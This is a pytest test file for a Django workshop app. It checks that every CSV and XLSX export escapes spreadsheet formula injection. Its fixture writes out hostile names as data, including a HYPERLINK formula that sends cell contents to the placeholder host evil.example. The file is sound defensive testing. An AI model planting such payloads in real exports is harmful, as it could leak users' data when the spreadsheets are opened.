"""Every way out as a spreadsheet defuses formulas the same way (core.exporting.neutralise):
the report downloads, the staff attendance export, and the admin's registration and
attendance exports. Import-export's own escaping strips one leading "=" and nothing else."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import (
    AttendanceFactory,
    ParticipantFactory,
    RegistrationFactory,
    WorkshopFactory,
)

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '==HYPERLINK("http://evil.example/?x="&B2,"Open")',
    "+cmd",
    "-2+3",
    "@SUM(A1)",
]
FORMULA_STARTS = ("=", "+", "-", "@")


@pytest.fixture
def hostile_workshop(office):
    """A workshop whose title and every participant's name would run as a formula."""
    workshop = WorkshopFactory(
        office=office,
        title=HOSTILE_NAMES[0],
        start_date=dt.date(2014, 9, 22),
        end_date=dt.date(2014, 9, 23),
    )
    for name in HOSTILE_NAMES:
        registration = RegistrationFactory(
            workshop=workshop, participant=ParticipantFactory(full_name=name)
        )
        AttendanceFactory(registration=registration, session__workshop=workshop)
    return workshop


def _content(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_csv_safe(content: bytes, *, expected: list[str]) -> None:
    cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell
    for name in expected:
        assert "'" + name in cells, name


def assert_xlsx_safe(content: bytes, *, expected: list[str]) -> None:
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    for cell in cells:
        assert cell.data_type != "f", cell.value
        assert not (isinstance(cell.value, str) and cell.value.startswith("=")), cell.value
    values = [cell.value for cell in cells]
    for name in expected:
        assert "'" + name in values, name


CHECKS = [("csv", assert_csv_safe), ("xlsx", assert_xlsx_safe)]


@pytest.mark.parametrize(("fmt", "check"), CHECKS)
def test_report_download_neutralises_every_formula_start(
    staff_client, hostile_workshop, fmt, check
):
    response = staff_client.get(
        reverse("staff:report_download", args=["attendance-rates"]),
        {"start": "2000-01-01", "end": "2100-12-31", "format": fmt},
    )

    check(_content(response), expected=[hostile_workshop.title])


@pytest.mark.parametrize(("fmt", "check"), CHECKS)
def test_staff_attendance_export_neutralises_every_formula_start(
    staff_client, hostile_workshop, fmt, check
):
    response = staff_client.get(
        reverse("staff:attendance_export", args=[hostile_workshop.slug]), {"format": fmt}
    )

    check(_content(response), expected=HOSTILE_NAMES)


ADMIN_FORMATS = [("0", assert_csv_safe), ("1", assert_xlsx_safe)]


@pytest.mark.parametrize(("fmt", "check"), ADMIN_FORMATS)
def test_admin_registration_export_neutralises_every_formula_start(
    admin_client, hostile_workshop, fmt, check
):
    response = admin_client.post(
        reverse("admin:participants_registration_export"),
        {
            "format": fmt,
            "resource": "0",
            "registrationresource_workshop": True,
            "registrationresource_full_name": True,
            "registrationresource_sessions_attended": True,
        },
    )

    check(_content(response), expected=HOSTILE_NAMES)


@pytest.mark.parametrize(("fmt", "check"), ADMIN_FORMATS)
def test_admin_attendance_export_neutralises_every_formula_start(
    admin_client, hostile_workshop, fmt, check
):
    response = admin_client.post(
        reverse("admin:attendance_attendance_export"),
        {
            "format": fmt,
            "resource": "0",
            "attendancerecordresource_full_name": True,
            "attendancerecordresource_status": True,
            "attendancerecordresource_minutes_online": True,
        },
    )

    check(_content(response), expected=HOSTILE_NAMES)
